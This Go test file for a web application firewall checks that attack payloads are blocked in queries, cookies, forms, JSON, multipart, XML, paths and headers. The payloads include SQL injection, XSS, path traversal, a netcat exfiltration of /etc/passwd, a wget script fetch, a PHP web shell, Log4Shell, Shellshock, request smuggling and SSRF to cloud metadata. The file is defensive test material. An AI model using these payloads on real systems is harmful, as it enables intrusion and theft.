package waf

import (
	"fmt"
	"net/netip"
	"net/url"
	"strings"
	"testing"
)

// attacks are one text per family, each of which the rules at paranoia level 1 know.
var attacks = []struct{ family, text string }{
	{"sql", `1' union select password from users-- `},
	{"sql", `x' or '1'='1`},
	{"sql", `1; drop table contacts; waitfor delay '0:0:5'--`},
	{"xss", `<script>alert(document.cookie)</script>`},
	{"xss", `<img src=x onerror=alert(1)>`},
	{"traversal", `../../../../etc/passwd`},
	{"command", `; cat /etc/passwd | nc 203.0.113.7 4444`},
	{"command", `$(wget http://203.0.113.7/x.sh)`},
	{"php", `<?php system($_GET['c']); ?>`},
	{"java", `${jndi:ldap://203.0.113.7/a}`},
}

const boundary = "----WebKitFormBoundary7MA4YWxk"

// multipartOf builds a multipart/form-data body from its parts, header and content.
func multipartOf(parts ...string) string {
	var b strings.Builder
	for _, p := range parts {
		fmt.Fprintf(&b, "--%s\r\n%s\r\n", boundary, p)
	}
	return b.String() + "--" + boundary + "--\r\n"
}

func fieldPart(name, text string) string {
	return `Content-Disposition: form-data; name="` + name + `"` + "\r\n\r\n" + text
}

func filePart(name, filename, text string) string {
	return `Content-Disposition: form-data; name="` + name + `"; filename="` + filename + `"` + "\r\nContent-Type: application/pdf\r\n\r\n" + text
}

func quoteJSON(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

// allEscaped writes every character as \u00xx, as an attacker would.
func allEscaped(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return `"` + b.String() + `"`
}

func escapeXML(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;").Replace(s)
}

func TestAttacksAreRefusedWhereverTheyStand(t *testing.T) {
	const multipartType = "multipart/form-data; boundary=" + boundary
	places := map[string]func(text string) request{
		"query value":    func(s string) request { return request{target: "/contacts?q=" + url.QueryEscape(s)} },
		"query name":     func(s string) request { return request{target: "/contacts?" + url.QueryEscape(s) + "=1"} },
		"nameless query": func(s string) request { return request{target: "/contacts?=x&=" + url.QueryEscape(s)} },
		"cookie": func(s string) request {
			return request{header: map[string]string{"Cookie": "theme=dark; last=" + strings.ReplaceAll(s, ";", "%3B")}}
		},
		"form":                          func(s string) request { return formRequest("name=Ada&note=" + url.QueryEscape(s)) },
		"form name":                     func(s string) request { return formRequest(url.QueryEscape(s) + "=1") },
		"JSON":                          func(s string) request { return jsonRequest(`{"name":"Ada","notes":[{"text":` + quoteJSON(s) + `}]}`) },
		"JSON, all escaped":             func(s string) request { return jsonRequest(`{"note":` + allEscaped(s) + `}`) },
		"JSON key":                      func(s string) request { return jsonRequest(`{` + quoteJSON(s) + `:1}`) },
		"JSON key of an empty object":   func(s string) request { return jsonRequest(`{` + quoteJSON(s) + `:{}}`) },
		"JSON key of an empty array":    func(s string) request { return jsonRequest(`{` + quoteJSON(s) + `:[]}`) },
		"JSON scalar":                   func(s string) request { return jsonRequest(quoteJSON(s)) },
		"the first of two JSON members": func(s string) request { return jsonRequest(`{"a":` + quoteJSON(s) + `,"a":"x"}`) },
		"the last of two JSON members":  func(s string) request { return jsonRequest(`{"a":"x","a":` + quoteJSON(s) + `}`) },
		"merge patch": func(s string) request {
			return request{method: "PATCH", target: "/contacts/1", typ: "application/merge-patch+json", body: `{"note":` + quoteJSON(s) + `}`}
		},
		"JSON sent as text": func(s string) request { return request{typ: "text/plain", body: `{"note":` + quoteJSON(s) + `}`} },
		"JSON sent as octet-stream": func(s string) request {
			return request{typ: "application/octet-stream", body: ` {"note":` + quoteJSON(s) + `}`}
		},
		"JSON as octet-stream with something after it": func(s string) request {
			return request{typ: "application/octet-stream", body: `{"note":` + quoteJSON(s) + "}\x00\xff"}
		},
		"plain text": func(s string) request { return request{typ: "text/plain", body: s} },
		"CSV":        func(s string) request { return request{typ: "text/csv", body: "name,note\nAda," + s + "\n"} },
		"multipart field": func(s string) request {
			return request{typ: multipartType, body: multipartOf(fieldPart("name", "Ada"), fieldPart("note", s))}
		},
		"multipart field after a file": func(s string) request {
			return request{typ: multipartType, body: multipartOf(filePart("f", "offer.pdf", "%PDF"), fieldPart("note", s))}
		},
		"XML text":      func(s string) request { return xmlRequest(`<a><b>` + escapeXML(s) + `</b></a>`) },
		"XML CDATA":     func(s string) request { return xmlRequest(`<a><![CDATA[` + s + `]]></a>`) },
		"XML attribute": func(s string) request { return xmlRequest(`<a b="` + escapeXML(s) + `"/>`) },
		"XML text in pieces": func(s string) request {
			return xmlRequest(`<a>` + escapeXML(s[:4]) + `<!-- x --><![CDATA[` + s[4:9] + `]]>` + escapeXML(s[9:]) + `</a>`)
		},
	}
	e := shared(t, Config{})
	for place, make := range places {
		for _, a := range attacks {
			ex := make(a.text).exchange(t)
			if err := through(e, ex); code(err) != "waf_blocked" {
				t.Errorf("%s in %s: got %v", a.text, place, err)
			}
		}
	}
}

func formRequest(body string) request {
	return request{target: "/contacts/card.php", typ: "application/x-www-form-urlencoded", body: body}
}

func jsonRequest(body string) request {
	return request{target: "/api/contacts", typ: "application/json", body: body}
}

func xmlRequest(body string) request {
	return request{target: "/soap.php", typ: "text/xml", body: `<?xml version="1.0" encoding="UTF-8"?>` + body}
}

func TestAttacksInTheHead(t *testing.T) {
	e := shared(t, Config{})
	for name, q := range map[string]request{
		"SQL in a path segment":            {target: "/contacts/1%27%20or%20%271%27=%271"},
		"union in a path segment":          {target: "/contacts/1%20union%20select%20password%20from%20users--"},
		"script in a path segment":         {target: "/contacts/%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
		"a file of the system in the path": {target: "/static/../../../../etc/passwd"},
		"a private file":                   {target: "/.env"},
		"a repository":                     {target: "/.git/config"},
		"a scanner":                        {header: map[string]string{"User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)"}},
		"another scanner":                  {header: map[string]string{"User-Agent": "Nikto/2.5.0"}},
		"shellshock in the agent":          {header: map[string]string{"User-Agent": "() { :;}; /bin/cat /etc/passwd"}},
		"log4shell in a header":            {header: map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.7/a}"}},
		"script in the referer":            {header: map[string]string{"Referer": "https://x.example/?a=<script>alert(1)</script>"}},
		"traversal in a header":            {header: map[string]string{"X-File": "../../../../etc/passwd"}},
		"SQL in the referer":               {header: map[string]string{"Referer": "x' union select password from users-- "}},
		"a method override":                {header: map[string]string{"X-Http-Method-Override": "DELETE"}},
		"a middleware bypass":              {header: map[string]string{"X-Middleware-Subrequest": "middleware"}},
		"a method that is not allowed":     {method: "PROPFIND"},
		"a smuggled request in a value":    {target: "/?a=x%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x"},
		"a split response":                 {target: "/?next=/a%0d%0aSet-Cookie:%20a=b"},
		"a server-side request":            {target: "/?url=http://169.254.169.254/latest/meta-data/"},
		"a magic number":                   {target: "/?i=2.2250738585072011e-308"},
		"prototype pollution":              {target: "/?__proto__[admin]=1"},
		"a template":                       {target: "/?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D"},
	} {
		if err := e.InspectHead(q.exchange(t)); code(err) != "waf_blocked" {
			t.Errorf("%s: got %v, want a 403", name, err)
		}
	}
}

func TestNoClientCanSwitchTheRulesOff(t *testing.T) {
	// REQUEST-905 of CRS exempts these from loopback; health checks and the like must
	// not be believed either.
	for _, agent := range []string{"Apache (internal dummy connection)", "GoogleHC/1.0", "kube-probe/1.33", "ELB-HealthChecker/2.0"} {
		ex := request{target: sqli, header: map[string]string{"User-Agent": agent}}.exchange(t)
		ex.Client.Addr = netip.MustParseAddr("127.0.0.1")
		if err := shared(t, Config{}).InspectHead(ex); code(err) != "waf_blocked" {
			t.Errorf("%s: got %v", agent, err)
		}
	}
}
